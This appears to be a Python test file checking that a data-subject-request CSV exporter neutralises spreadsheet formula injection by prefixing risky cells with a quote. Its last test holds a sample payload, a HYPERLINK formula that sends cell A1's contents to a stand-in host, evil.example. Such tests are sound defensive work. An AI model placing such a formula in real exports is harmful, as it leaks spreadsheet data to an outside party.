"""CSV exports a spreadsheet cannot run as formulas (dsar.spreadsheet)."""
from __future__ import annotations

import csv
import datetime as dt
import io

import pytest

from dsar.spreadsheet import neutralise, safe_writer


@pytest.mark.parametrize("cell", ["=1+1", "+31 20 123", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_it_prefixes_cells_a_spreadsheet_would_run(cell: str) -> None:
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["Ada Quintero", "DSAR-7K3M-Q9XP", "", "a=b", dt.date(2026, 3, 2), 5])
def test_it_leaves_other_cells_as_they_are(cell: object) -> None:
    assert neutralise(cell) == cell


def test_it_writes_every_row_through_the_prefix() -> None:
    out = io.StringIO()
    writer = safe_writer(out)
    writer.writerows([["name", "due"], ['=HYPERLINK("https://evil.example/?"&A1)', dt.date(2026, 3, 2)]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["name", "due"], ["'=HYPERLINK(\"https://evil.example/?\"&A1)", "2026-03-02"]]
